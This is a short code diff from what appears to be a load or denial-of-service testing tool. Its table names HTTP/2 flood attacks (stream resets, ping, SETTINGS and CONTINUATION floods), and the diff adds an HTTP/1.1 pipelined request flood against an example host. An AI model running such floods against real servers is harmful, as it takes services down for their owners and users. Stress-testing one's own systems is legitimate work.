@@ -228,12 +228,17 @@ ATTACKS = {
     "empty-data": ("page", "the same with DATA without an octet"),
     "trees": ("page", "the same with PRIORITY, each stream depending on the one before"),
     "continuations": ("page", "the same with CONTINUATION, of a head that never ends"),
+    "pipelined": ("page", "6 connections of HTTP/1 at a time, 20,000 requests each that wait for no answer"),
 }
-FLOODS = ("resets", "resets-apart", "pings", "settings", "empty-data", "trees", "continuations")
+FLOODS = ("resets", "resets-apart", "pings", "settings", "empty-data", "trees", "continuations", "pipelined")
 
 
 def frames(name: str) -> Iterator[bytes]:
-    """What a connection of HTTP/2 sends, in pieces."""
+    """What a connection sends, in pieces: of HTTP/2 but in one attack."""
+    if name == "pipelined":
+        for _ in range(20):
+            yield b"GET / HTTP/1.1\r\nHost: www.clips.example.org\r\n\r\n" * 1000
+        return
     encoder, size = Encoder(), 20_000
 
     def head(stream: int, *flags: str) -> bytes:
